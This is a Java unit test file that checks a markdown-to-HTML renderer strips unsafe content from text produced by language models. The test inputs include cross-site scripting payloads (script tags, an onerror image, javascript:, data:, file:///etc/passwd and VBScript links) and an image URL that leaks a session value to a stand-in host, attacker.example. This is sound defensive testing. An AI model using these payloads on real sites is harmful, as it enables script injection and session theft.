package dev.socra.server.web;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** The masterplan's text comes from language models: rendered, it must not run as page code. */
class MarkdownHtmlTest {

  @Test
  void rawHtmlIsShownAsTextAndScriptLinksAreDropped() {
    MarkdownHtml.Rendered r =
        MarkdownHtml.render(
            "## Plan <img src=x onerror=alert(1)>\n\n<script>alert(2)</script>\n\n"
                + "[click](javascript:alert(3)) and [docs](https://example.com/a)\n");
    assertThat(r.html())
        .doesNotContain("<script", "<img", "javascript:")
        .contains("&lt;script&gt;", "href=\"https://example.com/a\"");
  }

  @Test
  @org.junit.jupiter.api.Tag("security")
  void imagesLoadFromNowhereAndDataOrOtherSchemesLeadNowhere() {
    MarkdownHtml.Rendered r =
        MarkdownHtml.render(
            "Market ![a chart](https://attacker.example/p?session=abc) sized.\n\n"
                + "[open](data:text/html;base64,PHNjcmlwdD4=) [file](file:///etc/passwd)"
                + " [vb](VBScript:msgbox) [mail](mailto:a@example.com) [here](/sessions)"
                + " [part](#scores)\n");
    assertThat(r.html())
        .doesNotContain("<img", "attacker.example", "data:", "file:", "vbscript", "VBScript")
        .contains("Market a chart sized.")
        .contains("href=\"mailto:a@example.com\"", "href=\"/sessions\"", "href=\"#scores\"")
        .contains("rel=\"nofollow noopener noreferrer\"");
  }

  @Test
  void theContentsLinkToEachSectionAndSubsection() {
    MarkdownHtml.Rendered r =
        MarkdownHtml.render(
            "# Socra masterplan\n\n## Scores\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
                + "## Verdict: test\n\n### Components\n\n## Scores\n");
    assertThat(r.toc())
        .extracting(MarkdownHtml.TocEntry::level, MarkdownHtml.TocEntry::text)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(2, "Scores"),
            org.assertj.core.groups.Tuple.tuple(2, "Verdict: test"),
            org.assertj.core.groups.Tuple.tuple(3, "Components"),
            org.assertj.core.groups.Tuple.tuple(2, "Scores"));
    // ids are unique and every one is on its heading
    assertThat(r.toc()).extracting(MarkdownHtml.TocEntry::id).doesNotHaveDuplicates();
    for (MarkdownHtml.TocEntry e : r.toc()) {
      assertThat(r.html()).contains("<h" + e.level() + " id=\"" + e.id() + "\">" + e.text());
    }
    assertThat(r.html()).contains("<table>", "<td>1</td>");
  }
}
